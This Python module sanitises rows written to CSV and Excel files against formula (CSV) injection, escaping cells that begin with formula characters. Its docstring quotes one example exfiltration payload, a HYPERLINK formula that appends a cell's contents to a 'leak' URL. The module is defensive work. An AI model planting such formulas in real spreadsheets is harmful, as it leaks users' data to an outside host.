"""Rows written to CSV and Excel so that opening them runs nothing (OWASP, CSV injection).

A list cell may begin with `=`, `+`, `-`, `@`, a tab or a carriage return: a spreadsheet would read it as a
formula (`=HYPERLINK("http://…?leak="&C2, …)`). In Excel such a cell is written as a text cell, its text
unchanged; in CSV, which has no cell types, it is prefixed with an apostrophe.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def append_text_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """sheet.append, but a string is always a text cell, never a formula."""
    sheet.append([v.item() if hasattr(v, "item") else v for v in values])  # numpy ints -> int for openpyxl
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.data_type != "s":
            cell.data_type = "s"
